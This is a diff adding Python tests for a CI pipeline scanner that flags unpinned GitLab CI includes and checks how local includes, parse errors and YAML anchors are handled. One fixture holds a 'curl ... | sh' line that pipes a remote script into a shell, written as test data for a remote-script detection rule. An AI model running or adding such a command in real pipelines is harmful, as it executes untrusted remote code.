@@ -1,0 +1,71 @@
+"""GitLab CI includes: remote and cross-project includes need a pinned ref."""
+
+from __future__ import annotations
+
+from tests.pipeline.conftest import Scan, rules
+
+SHA = "0123456789abcdef0123456789abcdef01234567"
+
+
+def test_unpinned_includes_fire(scan: Scan) -> None:
+    findings = scan({".gitlab-ci.yml": f"""
+        include:
+          - remote: https://example.com/ci/template.yml
+          - 'https://example.com/other.yml'
+          - project: group/ci-templates
+            file: /build.yml
+          - project: group/ci-templates
+            ref: main
+            file: [/a.yml, /b.yml]
+          - component: $CI_SERVER_FQDN/group/comp/build@~latest
+          - project: group/pinned
+            ref: {SHA}
+            file: /build.yml
+          - remote: https://example.com/raw/{SHA}/ci.yml
+          - remote: https://example.com/ci/locked.yml
+            integrity: sha256-L6ZyXS5ci0JvR1/qp+XIXgWXG6MDVE+aJbnyGn+MHsk=
+          - component: $CI_SERVER_FQDN/group/comp/test@1.4.2
+          - template: Security/SAST.gitlab-ci.yml
+          - local: /ci/jobs.yml
+        build:
+          script: [make]
+    """, "ci/jobs.yml": "lint:\n  script: [make lint]\n"})
+    hits = rules(findings, "pipeline/gitlab-unpinned-include")
+    assert sorted((f.line, f.severity.value) for f in hits) == [
+        (2, "medium"), (3, "medium"), (4, "medium"), (6, "medium"), (9, "medium")
+    ]
+
+
+def test_local_include_is_followed_and_audited(scan: Scan) -> None:
+    findings = scan({
+        ".gitlab-ci.yml": "include:\n  - local: ci/*.yml\nstages: [build]\n",
+        "ci/build.yml": "build:\n  image: alpine\n  script:\n    - curl -s https://x.io/i | sh\n",
+        "ci/more.yml": f"include:\n  - project: g/p\n    ref: {SHA}\n    file: x.yml\n",
+    })
+    assert [(f.path, f.line) for f in rules(findings, "pipeline/remote-script")] == [
+        ("ci/build.yml", 4)
+    ]
+    assert rules(findings, "pipeline/gitlab-unpinned-include") == []
+
+
+def test_missing_local_include_and_malformed_include(scan: Scan) -> None:
+    findings = scan({".gitlab-ci.yml": "include:\n  - local: /ci/missing.yml\nb:\n  script: [x]\n"})
+    errors = rules(findings, "pipeline/parse-error")
+    assert [(f.line, "missing.yml" in f.message) for f in errors] == [(2, True)]
+    findings = scan({".gitlab-ci.yml": "include:\n  - {file: x.yml}\n"})
+    assert [f.line for f in rules(findings, "pipeline/parse-error")] == [2]
+
+
+def test_reference_tags_and_anchors_parse(scan: Scan) -> None:
+    findings = scan({".gitlab-ci.yml": """
+        .setup: &setup
+          - apt-get update
+        .base:
+          before_script: *setup
+        test:
+          extends: .base
+          script:
+            - !reference [.base, before_script]
+            - pytest
+    """})
+    assert rules(findings, "pipeline/parse-error") == []
